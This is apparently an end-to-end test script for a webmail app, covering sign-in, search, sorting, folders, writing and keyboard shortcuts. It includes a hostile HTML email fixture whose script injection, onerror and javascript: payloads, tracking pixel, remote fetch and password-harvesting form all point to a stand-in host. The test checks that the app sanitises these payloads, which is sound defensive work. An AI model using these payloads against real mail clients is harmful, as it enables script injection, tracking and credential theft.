// A day in the webmail: reading, searching, sorting, writing; with hostile mail among it.

import { tmpdir } from 'node:os';
import { mkdtemp, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

const HOSTILE = `From: Eve Sample <eve@remote.example>
To: ada@sample-shop.example
Subject: <b>You</b> have won
Message-ID: <hostile@remote.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><style>@import url("https://elsewhere.example/x.css"); body{background:url(https://elsewhere.example/bg.png)}</style>
<script>parent.document.title='owned'; fetch('https://elsewhere.example/script')</script>
<meta http-equiv="refresh" content="0;url=https://elsewhere.example/refresh"><base href="https://elsewhere.example/"></head>
<body onload="parent.document.title='owned'"><p>Your prize waits.</p>
<img src="https://elsewhere.example/pixel.png" width="1" height="1"><img src=x onerror="parent.document.title='owned'">
<svg><script>parent.document.title='owned'</script></svg><iframe src="https://elsewhere.example/frame"></iframe>
<form action="https://elsewhere.example/form"><input name="password"><button>Go</button></form>
<a href="javascript:parent.document.title='owned'">Claim</a> <a href="https://elsewhere.example/read">Read on</a>
<div style="position:fixed;inset:0;background:url('https://elsewhere.example/style.png')">Over all</div></body></html>
`;

const letter = (number, subject, text) => `From: Bo Sample <bo@remote.example>
To: ada@sample-shop.example
Subject: ${subject}
Message-ID: <${number}@remote.example>
Date: Mon, 2 Mar 2026 09:0${number}:00 +0000

${text}
`;

export default async function webmail(tools) {
  const { world, options } = tools;
  for (const [number, subject] of ['Invoice for the lamp', 'Your table on Friday', 'Minutes of the meeting'].entries()) {
    await world.kept(options.address, options.password, 'INBOX', letter(number, subject, `This is about: ${subject}.`));
  }
  await world.kept(options.address, options.password, 'INBOX', HOSTILE);
  await signsIn(tools);
  await readsHostileMail(tools);
  await searches(tools);
  await sorts(tools);
  await makesAFolder(tools);
  await writes(tools);
  await usesKeys(tools);
  await signsOut(tools);
}

async function signsIn({ page, hands, look, options, watched }) {
  await page.goto('/mail');
  await watched.expecting(422, async () => {
    await hands.fill('E-mail address', options.address);
    await hands.fill('Password', 'not this one');
    await hands.go('button', 'Open');
    await page.getByText('That address or password is not right.').waitFor();
    await look('webmail, sign-in refused');
  });
  await hands.fill('E-mail address', options.address);
  await hands.fill('Password', options.password);
  await hands.go('button', 'Open');
  await look('inbox');
}

async function readsHostileMail({ page, hands, look }) {
  await hands.go('link', /have won/);
  const body = page.frameLocator('iframe');
  await body.getByText('Your prize waits.').waitFor();
  await page.getByText('not loaded, so that the sender does not learn').waitFor();
  for (const bad of ['script', 'form', 'iframe', 'input', '[onload]', '[onerror]', 'a[href^="javascript"]', 'base', 'meta[http-equiv]']) {
    if (await body.locator(bad).count()) throw new Error(`the mail's ${bad} reached the page`);
  }
  if ((await page.title()).includes('owned')) throw new Error('a script of a mail ran');
  const link = body.getByRole('link', { name: 'Read on' });
  if (!/noopener/.test(await link.getAttribute('rel'))) throw new Error('a link of a mail knows who opened it');
  await look('mail, hostile');
  await hands.go('link', 'Show as plain text');
  await page.getByText('Your prize waits.').waitFor();
  await look('mail, as text');
}

async function searches({ page, hands, look }) {
  await hands.visit(/^Inbox/);
  const box = page.getByRole('searchbox').filter({ visible: true });
  await hands.fillHere(box, 'lamp');
  await Promise.all([page.waitForNavigation(), page.keyboard.press('Enter')]);
  await page.getByText('One message found').waitFor();
  await page.getByRole('link', { name: /Invoice for the lamp/ }).waitFor();
  await look('search');
  await hands.fillHere(box, 'giraffe');
  await Promise.all([page.waitForNavigation(), page.keyboard.press('Enter')]);
  await page.getByRole('heading', { name: 'Nothing found' }).waitFor();
  await look('search, nothing');
}

// Star, read, archive with undo, junk and back, delete.
async function sorts({ page, hands, look }) {
  await hands.visit(/^Inbox/);
  const row = (subject) => page.getByRole('listitem').filter({ hasText: subject });
  await hands.go('button', 'Add a star', row('Your table on Friday'));
  await row('Your table on Friday').getByRole('button', { name: 'Take the star away' }).waitFor();
  await hands.tick('Choose: Invoice for the lamp');
  await look('inbox, chosen');
  await hands.go('button', 'Archive');
  await page.getByText('The message is in the archive.').waitFor();
  await look('inbox, undo');
  await hands.go('button', 'Undo');
  await row('Invoice for the lamp').waitFor();
  await hands.tick(/have won/);
  await hands.go('button', 'Junk');
  await page.getByText('The message is in Junk.').waitFor();
  await hands.visit(/^Junk/);
  await look('junk');
  await hands.tick(/have won/);
  await hands.go('button', 'Delete');
  await hands.visit(/^Trash/);
  await hands.tick(/have won/);
  await hands.press('button', 'Delete for good');
  const dialog = page.getByRole('dialog', { name: 'Delete for good?' });
  await dialog.waitFor();
  await look('trash, deleting');
  await hands.go('button', 'Delete for good', dialog);
  await page.getByText('The message is deleted.').waitFor();
  await look('trash, empty');
}

async function makesAFolder({ page, hands, look }) {
  await hands.visit('Arrange folders');
  await hands.fill('New folder', 'Shop');
  await hands.go('button', 'Make the folder');
  await page.getByText('The folder is there.').waitFor();
  await look('folders');
  await hands.visit(/^Inbox/);
  await hands.tick('Choose: Minutes of the meeting');
  await hands.press('button', 'Move');
  await hands.go('button', 'Shop');
  await page.getByText('The message is moved.').waitFor();
  await hands.visit(/^Shop/);
  await page.getByRole('link', { name: /Minutes of the meeting/ }).waitFor();
  await look('folder of one’s own');
}

async function writes({ page, hands, look, world, watched }) {
  await hands.go('link', 'Write');
  await look('write');
  await watched.expecting(422, async () => {
    await hands.fill('To', 'bo@@remote');
    await hands.go('button', 'Send');
    await page.getByText('is no e-mail address').waitFor();
    await look('write, refused');
  });
  await hands.fill('To', 'bo@remote.example');
  await hands.fill('Subject', 'The plan');
  await hands.fill('Text', 'Dear Bo,\n\nhere is half of it.\n');
  await hands.go('button', 'Save as draft');
  await page.getByText('The draft is saved.').first().waitFor();
  await hands.visit(/^Drafts/);
  await look('drafts');
  await hands.go('link', /The plan/);
  await hands.fill('Text', 'Dear Bo,\n\nhere is all of it.\n');
  const file = join(await mkdtemp(join(tmpdir(), 'journey-')), 'shelves.txt');
  await writeFile(file, 'eleven shelves');
  await hands.attach('Attach files', file);
  await hands.go('button', 'Send');
  await page.getByText('Your message is on its way.').waitFor();
  const mail = await world.sent('bo@remote.example', 'here is all of it.');
  for (const part of ['Subject: The plan', 'shelves.txt', 'From: ']) {
    if (!mail.includes(part)) throw new Error(`the letter has no “${part}”:\n${mail}`);
  }
  await hands.visit(/^Sent/);
  await page.getByRole('link', { name: /The plan/ }).waitFor();
  await look('sent');
}

// The keys of the webmail itself, whichever hands walk the journey.
async function usesKeys({ page, hands, look }) {
  await hands.visit(/^Inbox/);
  const keys = page.keyboard;
  await keys.press('?');
  await page.getByRole('dialog', { name: 'Keys' }).waitFor();
  await look('keys');
  await keys.press('Escape');
  await keys.press('j');
  await keys.press('j');
  const current = page.locator('[data-row][data-at]');
  const subject = (await current.locator('.mail-row__subject').innerText()).trim();
  await Promise.all([page.waitForNavigation(), keys.press('Enter')]);
  await page.getByRole('heading', { name: subject, level: 1 }).waitFor();
  await Promise.all([page.waitForNavigation(), keys.press('r')]);
  await page.getByRole('heading', { name: 'Reply', level: 1 }).waitFor();
  await hands.press('button', 'Discard');
  await look('write, discarding');
  await hands.go('button', 'Discard it', page.getByRole('dialog', { name: 'Discard this message?' }));
  await page.getByText('The message is discarded.').waitFor();
  await hands.visit(/^Inbox/);
  await keys.press('j');
  await Promise.all([page.waitForNavigation(), keys.press('#')]);
  await page.getByText('The message is in the Trash.').waitFor();
  await Promise.all([page.waitForNavigation(), keys.press('z')]);
  await page.getByText('They are back where they were.').waitFor();
  await keys.press('/');
  if (!(await page.getByRole('searchbox').first().evaluate((box) => box === document.activeElement))) throw new Error('“/” does not lead to the search');
}

async function signsOut({ page, hands }) {
  const menu = page.getByRole('button', { name: 'Folders' }).filter({ visible: true });
  if (await menu.count()) await hands.pressHere(menu);
  await Promise.all([page.waitForNavigation(), hands.pressHere(page.getByRole('button', { name: 'Sign out' }).filter({ visible: true }))]);
  await page.getByText('You are signed out of your mailbox.').waitFor();
}
